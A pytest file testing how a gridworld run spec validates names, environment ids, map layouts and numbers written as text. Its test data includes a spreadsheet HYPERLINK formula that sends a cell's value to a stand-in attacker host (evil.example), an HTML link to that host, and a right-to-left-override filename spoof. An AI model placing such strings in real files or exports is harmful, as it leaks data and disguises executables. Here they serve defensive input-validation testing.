"""Text fields of a run spec (name, env id, map) and numbers written as text: a bad one is
refused naming its own field, a good one is kept as typed."""

from __future__ import annotations

import pytest

from gridworld.errors import ValidationError
from gridworld.hyperparams import validate_hyperparams
from gridworld.numbers import to_number
from gridworld.spec import MAX_NAME, validate_run_spec

BAD_NAMES = [
    ("a\x00b", "control character U+0000"),
    ("tab\there", "control character U+0009"),
    ("line\nbreak", "control character U+000A"),
    ("\x1b[31mred", "control character U+001B"),
    ("del\x7f", "control character U+007F"),
    ("c1\x85x", "control character U+0085"),
    ("a\ud800b", "lone surrogate U+D800"),
    ("\udfffz", "lone surrogate U+DFFF"),
    ("evil\u202etxt.exe", "bidirectional control U+202E"),
    ("iso\u2066late", "bidirectional control U+2066"),
    ("x" * (MAX_NAME + 1), "101 characters"),
    ("", "empty"),
    ("   ", "empty"),
    (5, "not text"),
    (["a"], "not text"),
    ({"a": 1}, "not text"),
    (True, "not text"),
]


@pytest.mark.parametrize(("name", "reason"), BAD_NAMES)
def test_a_bad_name_is_refused_naming_the_name_field(name, reason):
    with pytest.raises(ValidationError) as caught:
        validate_run_spec({"name": name})
    assert caught.value.field == "name"
    assert reason in str(caught.value)
    assert f"text of 1 to {MAX_NAME} characters" in str(caught.value)


@pytest.mark.parametrize(
    "name",
    [
        "plain",
        "  padded  ",
        "Ünïcödé ñame",
        "名前",
        "emoji 🚀 and 👩‍💻",
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        '<a href="https://evil.example/">x</a>',
        "x" * MAX_NAME,
    ],
)
def test_any_other_text_is_a_name_kept_as_typed_but_trimmed(name):
    assert validate_run_spec({"name": name}).name == name.strip()


def test_no_name_or_null_takes_the_default_name():
    assert validate_run_spec({}).name == "easy seed 0"
    assert validate_run_spec({"name": None, "seed": 3}).name == "easy seed 3"


@pytest.mark.parametrize(
    ("env_id", "reason"),
    [
        ("x" * 5000, "not a registered environment"),
        ("GridWorld-v0\x00", "not a registered environment"),
        ("\ud800", "not a registered environment"),
        ("Frozen" * 30, "not a registered environment"),
    ],
)
def test_a_bad_env_id_is_reported_as_env_whatever_its_length(env_id, reason):
    with pytest.raises(ValidationError) as caught:
        validate_run_spec({"env_id": env_id})
    assert caught.value.field == "env"
    assert reason in str(caught.value)


@pytest.mark.parametrize(
    ("desc", "reason"),
    [
        (["S" + "." * 100 + "G"], "102 columns"),
        (["S.", *(["..."[:2]] * 100), ".G"], "102 rows"),
        ("S" + "." * 200 + "G", "202 columns"),
        ({"rows": ["SG"]}, "a list of row strings"),
        (["S.", 5], "row 2 is not a string"),
        ("S\ud800G", "unknown character"),
    ],
)
def test_a_map_too_big_or_not_text_is_reported_as_desc(desc, reason):
    with pytest.raises(ValidationError) as caught:
        validate_run_spec({"desc": desc})
    assert caught.value.field == "desc"
    assert reason in str(caught.value)


def test_a_map_of_100_by_100_is_accepted():
    rows = ["S" + "." * 99, *(["." * 100] * 98), "." * 99 + "G"]
    assert len(validate_run_spec({"desc": rows}).desc) == 100


@pytest.mark.parametrize("text", ["0.1_0", "٠.٥", "0.５", "1e-1_0", "0x1p-1", "½"])
def test_numbers_written_as_text_take_ascii_digits_only(text):
    with pytest.raises(ValidationError, match="not a number"):
        to_number("alpha", text, "0 < x <= 1")
    with pytest.raises(ValidationError) as caught:
        validate_hyperparams({"alpha": text})
    assert caught.value.field == "alpha"


@pytest.mark.parametrize(
    ("text", "value"), [("0.5", 0.5), (" .5 ", 0.5), ("5e-1", 0.5), ("+1", 1.0), ("1.", 1.0)]
)
def test_plain_decimal_text_is_still_a_number(text, value):
    assert to_number("alpha", text, "") == value
